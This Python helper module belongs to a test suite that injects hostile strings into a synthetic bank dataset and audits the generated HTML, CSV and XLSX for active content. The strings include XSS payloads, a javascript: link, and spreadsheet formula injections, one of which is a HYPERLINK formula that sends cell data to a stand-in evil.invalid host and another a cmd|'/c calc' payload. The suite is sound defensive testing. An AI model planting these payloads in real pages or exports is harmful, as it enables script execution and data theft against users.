"""Shared pieces of the hostile-input suite (not a test module).

- :data:`HOSTILE`: the strings an attacker or a careless export puts into text fields: markup
  that would run script if pasted into a page unescaped, Markdown that would become a
  ``javascript:`` link, and cells that a spreadsheet would evaluate as formulas.
- :func:`make_hostile_dataset`: a synthetic bank whose every free-text column, and whose spec
  name, carry those strings.
- :func:`audit_html`: parse a page with an HTML parser (never a grep) and list every script
  element, event-handler attribute and ``javascript:`` URL, with the page's text.
- :func:`audit_csv` / :func:`audit_xlsx`: every cell that a spreadsheet would evaluate.
- :func:`snapshot`: the bytes of a pack, to prove a run left it byte-identical.
"""

from __future__ import annotations

import csv
import hashlib
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import yaml

HERE = Path(__file__).resolve().parent
NOTEBOOKS = HERE / "notebooks"
MONTH = "2026-10"

#: Hostile text. Each carries a marker ``xss-N`` / ``csv-N`` so a finding names its source.
HOSTILE = (
    '<script>alert("xss-1")</script>',
    '<img src=x onerror=alert("xss-2")>',
    '"><svg onload=alert("xss-3")>',
    "'</td></tr></table><b onmouseover=alert('xss-4')>",
    '[click](javascript:alert("xss-5"))',
    '=HYPERLINK("http://evil.invalid/?"&A1,"csv-1")',
    "+cmd|'/c calc'!A1 csv-2",
    "-2+3+cmd csv-3",
    "@SUM(1+1)*cmd csv-4",
    "\t=1+1 csv-5",
    "\r=1+1 csv-6",
)
#: The spec name of the hostile dataset: it reaches every page header and provenance table.
HOSTILE_NAME = '<script>alert("xss-name")</script>"\'</td><img src=x onerror=alert("xss-name")>'
#: First characters a spreadsheet evaluates (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain number (Excel reads it as a number, never as a formula): "-12.5", "-1e-05".
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")
#: Elements that run code or embed other documents; none may come from data.
ACTIVE_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "frame", "frameset", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


# --------------------------------------------------------------------------------------------
# The hostile dataset
# --------------------------------------------------------------------------------------------


def _hostile(values: pd.Series, offset: int = 0) -> pd.Series:
    """Prefix each distinct value with a hostile string (distinct values stay distinct)."""
    codes = {
        value: HOSTILE[(i + offset) % len(HOSTILE)]
        for i, value in enumerate(values.dropna().unique())
    }
    return values.map(lambda v: v if pd.isna(v) else f"{codes[v]}{v}")


def make_hostile_dataset(folder: Path, customers: int = 1500, seed: int = 15) -> Path:
    """Generate a bank into ``folder``, make every free-text column hostile; return the spec.

    Hostile: ``customer_id`` (every table), ``name``, ``mobile``, ``branch_id``, ``rm_id``
    (customers and contacts, consistently), ``close_reason``, ``campaign_id``,
    ``contact_channel``, and the spec's ``name``. Columns with a closed set of values
    (gender, channel, product codes, ...) are validated against that set, so they stay.
    """
    from helpers import paths
    from helpers.synth import generate

    generate(folder, customers=customers, months=24, end_month=MONTH, seed=seed, transactions=False)
    tables = {p.stem: pd.read_parquet(p) for p in folder.glob("*.parquet")}
    customers_table = tables["customers"]
    id_map = dict(
        zip(customers_table["customer_id"], _hostile(customers_table["customer_id"]), strict=True)
    )
    rm_values = pd.concat([customers_table["rm_id"], tables["contacts"]["rm_id"]]).dropna().unique()
    rm_map = dict(zip(rm_values, _hostile(pd.Series(rm_values), 1), strict=True))
    for name, frame in tables.items():
        if "customer_id" in frame.columns and name in (
            "customers", "monthly_balances", "holdings", "contacts", "campaigns", "truth_customers"
        ):  # fmt: skip
            frame["customer_id"] = frame["customer_id"].map(id_map)
        if "rm_id" in frame.columns:
            frame["rm_id"] = frame["rm_id"].map(lambda v: rm_map.get(v, v))
    customers_table["name"] = _hostile(customers_table["name"], 2)
    customers_table["mobile"] = customers_table["mobile"].map(
        lambda v: v if pd.isna(v) else f"=1+{v}"
    )
    customers_table["branch_id"] = _hostile(customers_table["branch_id"], 3)
    customers_table["close_reason"] = _hostile(customers_table["close_reason"], 4)
    campaigns = tables["campaigns"]
    if len(campaigns):
        campaigns["campaign_id"] = _hostile(campaigns["campaign_id"], 5)
        campaigns["contact_channel"] = _hostile(campaigns["contact_channel"], 6)
    for name, frame in tables.items():
        frame.to_parquet(folder / f"{name}.parquet", index=False)
    spec = yaml.safe_load(paths.SAMPLE_SPEC.read_text(encoding="utf-8"))
    spec["name"] = HOSTILE_NAME
    spec["tables"].pop("transactions", None)
    path = folder / "dataset.yaml"
    path.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    return path


# --------------------------------------------------------------------------------------------
# Audits
# --------------------------------------------------------------------------------------------


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.text: list[str] = []
        self.attribute_values: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.findings.append(f"<{tag}> element at line {self.getpos()[0]}")
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=...> event handler at line {self.getpos()[0]}")
            if name in URL_ATTRIBUTES and value:
                scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.findings.append(f"<{tag} {name}={value[:40]!r}> script URL")
            if value and name in ("alt", "title", "aria-label"):
                self.attribute_values.append(value)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def audit_html(path: Path) -> tuple[list[str], str, list[str]]:
    """``(findings, text, alt/title values)`` of one page, parsed as HTML."""
    audit = _Audit()
    audit.feed(path.read_text(encoding="utf-8"))
    audit.close()
    return audit.findings, "".join(audit.text), audit.attribute_values


def audit_csv(path: Path) -> tuple[list[str], list[str]]:
    """``(formula cells, every cell)`` of a CSV list as Excel would read it."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(c)]
    return bad, cells


def audit_xlsx(path: Path) -> tuple[list[str], list[str]]:
    """``(formulas, every text value)`` in every sheet's XML of an .xlsx (no reader trusted)."""
    formulas, texts = [], []
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")) and name != (
                "xl/sharedStrings.xml"
            ):
                continue
            root = ElementTree.fromstring(book.read(name))
            for element in root.iter():
                local = element.tag.rsplit("}", 1)[-1]
                if local == "f":
                    formulas.append(f"{name}: <f>{element.text}</f>")
                if local == "t" and element.text:
                    texts.append(element.text)
    return formulas, texts


def snapshot(folder: Path) -> dict[str, str]:
    """``{relative path: sha256}`` of every file under ``folder`` (and its folders)."""
    result = {}
    for path in sorted(folder.rglob("*")):
        relative = str(path.relative_to(folder))
        if path.is_dir():
            result[relative + "/"] = "dir"
        else:
            result[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return result
